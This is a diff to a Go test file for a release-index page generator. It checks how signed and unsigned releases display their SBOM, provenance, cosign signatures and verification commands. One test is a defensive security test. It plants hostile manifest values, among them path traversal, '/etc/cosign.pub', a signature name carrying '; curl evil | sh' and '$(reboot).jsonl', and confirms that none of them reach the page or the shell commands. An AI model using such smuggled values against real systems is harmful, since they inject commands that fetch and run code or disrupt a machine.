@@ -1,6 +1,7 @@
 package index
 
 import (
+	"html"
 	"regexp"
 	"strings"
 	"testing"
@@ -133,8 +134,9 @@ func TestHTMLOrderAndCollapse(t *testing.T) {
 		}
 	}
 	// Stable is open; Extra and Development are closed <details>.
+	// (A release's own "Verify a download" is a <details> too.)
 	stable := out[strings.Index(out, `<section id="stable">`):strings.Index(out, `<section id="extra">`)]
-	if strings.Contains(stable, "<details") {
+	if strings.Contains(stable, "<details>\n<summary><h2>") {
 		t.Error("the stable section is collapsed")
 	}
 	for _, id := range []string{"extra", "development"} {
@@ -208,5 +210,156 @@ func TestLocalPage(t *testing.T) {
 	}
 	if !strings.Contains(string(js), `"prefix": ""`) || !strings.Contains(string(js), `"docs_url": "docs/index.html"`) {
 		t.Errorf("dist/releases.json does not point next to itself:\n%s", js)
+	}
+}
+
+// sign gives a manifest the supply-chain files of a signed release, named
+// as the pipeline names them.
+func sign(m *manifest.Manifest) *manifest.Manifest {
+	m.SBOM, m.Provenance = manifest.SBOMName, manifest.ProvenanceName
+	m.Signatures = &manifest.Signatures{
+		PublicKey:  manifest.PublicKeyName,
+		Files:      map[string]string{manifest.SumsName: manifest.SumsName + manifest.SignatureSuffix},
+		Provenance: manifest.EnvelopeName,
+	}
+	for _, a := range m.Targets {
+		m.Signatures.Files[a.Path] = a.Path + manifest.SignatureSuffix
+	}
+	if m.Image != nil {
+		m.Signatures.Image = manifest.ImageSignatureName
+	}
+	return m
+}
+
+// article returns the HTML of one release on the page.
+func article(t *testing.T, out, version string) string {
+	t.Helper()
+	i := strings.Index(out, `data-version="`+version+`"`)
+	if i < 0 {
+		t.Fatalf("the page has no release %s", version)
+	}
+	end := strings.Index(out[i:], "</article>")
+	return out[i : i+end]
+}
+
+var commandRe = regexp.MustCompile(`<code class="command">([^<]*)</code>`)
+
+// commands are the shell commands of a release as a user copies them.
+func commands(art string) []string {
+	var out []string
+	for _, m := range commandRe.FindAllStringSubmatch(art, -1) {
+		out = append(out, html.UnescapeString(m[1]))
+	}
+	return out
+}
+
+func TestHTMLSupplyChain(t *testing.T) {
+	signed := sign(full("v1.2.3"))
+	unsigned := mk("v1.1.0", "stable", 0, "b")
+	unsigned.SBOM = manifest.SBOMName
+	out := render(t, signed, unsigned)
+
+	s := article(t, out, "v1.2.3")
+	attr := func(class, key string) string { return `<a class="` + class + `" href="` + key + `">` }
+	want := []string{
+		`<span class="badge signed">signed</span>`,
+		attr("sbom", FileKey("v1.2.3", manifest.SBOMName)) + "SBOM</a>",
+		attr("provenance", FileKey("v1.2.3", manifest.ProvenanceName)) + "provenance</a>",
+		attr("public-key", FileKey("v1.2.3", manifest.PublicKeyName)) + "cosign.pub</a>",
+		attr("sums-signature", FileKey("v1.2.3", manifest.SumsName+manifest.SignatureSuffix)) + "SHA256SUMS.sig</a>",
+		attr("provenance-signature", FileKey("v1.2.3", manifest.EnvelopeName)) + "provenance.intoto.jsonl</a>",
+		attr("image-signature", FileKey("v1.2.3", manifest.ImageSignatureName)) + "image.sig.json</a>",
+		"from the project's repository, a place you trust",
+		`<details class="verify" open>`, // the latest release shows its commands
+	}
+	for _, a := range signed.Targets {
+		want = append(want, attr("signature", FileKey("v1.2.3", a.Path)+manifest.SignatureSuffix)+".sig</a>")
+	}
+	for _, w := range want {
+		if !strings.Contains(s, w) {
+			t.Errorf("signed release lacks %s", w)
+		}
+	}
+	if strings.Contains(s, "unsigned") {
+		t.Error("the signed release says unsigned")
+	}
+	img := "registry.example/garage@sha256:" + strings.Repeat("e", 64)
+	wantCmds := []string{"cosign verify-blob --key cosign.pub --signature SHA256SUMS.sig --insecure-ignore-tlog SHA256SUMS"}
+	for _, a := range signed.Targets {
+		wantCmds = append(wantCmds,
+			"grep ' "+strings.ReplaceAll(a.Path, ".", `\.`)+"$' SHA256SUMS | sed 's| "+a.Triple+"/| |' | sha256sum -c",
+			"cosign verify-blob --key cosign.pub --signature garage.sig --insecure-ignore-tlog garage",
+			"cosign verify-blob-attestation --key cosign.pub --signature provenance.intoto.jsonl --type slsaprovenance1 --insecure-ignore-tlog garage",
+		)
+	}
+	wantCmds = append(wantCmds,
+		"cosign verify --key cosign.pub --insecure-ignore-tlog "+img,
+		"cosign verify-attestation --key cosign.pub --insecure-ignore-tlog --type slsaprovenance1 "+img,
+	)
+	if got := commands(s); strings.Join(got, "\n") != strings.Join(wantCmds, "\n") {
+		t.Errorf("signed release commands:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(wantCmds, "\n"))
+	}
+
+	u := article(t, out, "v1.1.0")
+	for _, w := range []string{
+		`<span class="badge unsigned">unsigned</span>`,
+		`<p class="unsigned-note">This release is unsigned`,
+		attr("sbom", FileKey("v1.1.0", manifest.SBOMName)) + "SBOM</a>",
+		`<details class="verify">`, // not the latest: closed
+	} {
+		if !strings.Contains(u, w) {
+			t.Errorf("unsigned release lacks %s", w)
+		}
+	}
+	for _, bad := range []string{"cosign", ".sig", `class="provenance`, `class="signed`, `class="badge signed"`} {
+		if strings.Contains(u, bad) {
+			t.Errorf("unsigned release shows %s", bad)
+		}
+	}
+	if got := commands(u); len(got) != 1 || got[0] != "grep ' x86_64-unknown-linux-gnu/garage$' SHA256SUMS | sed 's| x86_64-unknown-linux-gnu/| |' | sha256sum -c" {
+		t.Errorf("unsigned release commands = %q, want the sha256sum check alone", got)
+	}
+
+	// dist/index.html links the same files next to itself.
+	b, err := Build([]*manifest.Manifest{sign(full("v1.2.3"))}).LocalHTML()
+	if err != nil {
+		t.Fatal(err)
+	}
+	local := string(b)
+	for _, w := range []string{
+		attr("sbom", manifest.SBOMName), attr("provenance", manifest.ProvenanceName),
+		attr("public-key", manifest.PublicKeyName), attr("sums-signature", "SHA256SUMS.sig"),
+		attr("provenance-signature", manifest.EnvelopeName), attr("signature", "x86_64-unknown-linux-gnu/garage.sig"),
+	} {
+		if !strings.Contains(local, w) {
+			t.Errorf("dist/index.html lacks %s", w)
+		}
+	}
+}
+
+func TestHTMLSupplyChainHostile(t *testing.T) {
+	m := sign(mk("v1.0.0", "stable", 0, "a"))
+	m.SBOM = "../../_releases/other/sbom.cdx.json"
+	m.Signatures.PublicKey = "/etc/cosign.pub"
+	m.Signatures.Files[m.Targets[0].Path] = "x86_64-unknown-linux-gnu/garage.sig; curl evil | sh"
+	m.Signatures.Provenance = "$(reboot).jsonl"
+	out := article(t, render(t, m), "v1.0.0")
+	for _, bad := range []string{`class="sbom"`, "/etc/", "../", "curl evil"} {
+		if strings.Contains(out, bad) {
+			t.Errorf("hostile supply-chain paths put %q on the page", bad)
+		}
+	}
+	// Odd names stay links inside the release folder, escaped, and never
+	// reach a command a user would paste into a shell.
+	if !strings.Contains(out, `href="_releases/v1.0.0/x86_64-unknown-linux-gnu/garage.sig%3B%20curl%20evil%20%7C%20sh"`) {
+		t.Error("the odd signature name is not one escaped link in the release folder")
+	}
+	for _, c := range commands(out) {
+		if strings.Contains(c, "curl") || strings.Contains(c, "reboot") {
+			t.Errorf("a hostile name reached a command: %s", c)
+		}
+	}
+	if !strings.Contains(out, `class="verify-note"`) {
+		t.Error("the page does not say that commands were left out")
 	}
 }
